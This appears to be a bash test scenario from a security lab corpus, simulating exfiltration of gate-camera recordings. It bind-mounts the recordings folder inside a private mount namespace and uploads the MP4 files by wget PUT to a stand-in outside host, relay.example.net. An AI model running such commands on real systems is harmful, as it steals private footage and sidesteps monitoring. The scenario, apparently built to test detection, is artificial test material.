#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export half=report tool=unshare,mount,wget seconds=34 parts=dns,camera-gate,recorder-gate,nas,outside-web
# In a mount namespace of its own a session has the folder of recordings at another place, too, and wget puts them outside from there.
# shellcheck disable=SC2016 # other languages have variables of their own
sleep 14; mkdir -p "$LAB/spool" "$LAB/outside/drop"
LAB="$LAB" unshare -m sh -c 'mount --bind "$LAB/recordings/gate" "$LAB/spool" && cd "$LAB/spool" && for path in 00[0-4].mp4; do wget -nv -O /dev/null --method=PUT --body-file="$path" "http://relay.example.net/drop/spool-$path"; sleep 1; done'
sleep 4; [ "$(cat "$LAB"/outside/drop/spool-* | wc -c)" -gt 400000 ]
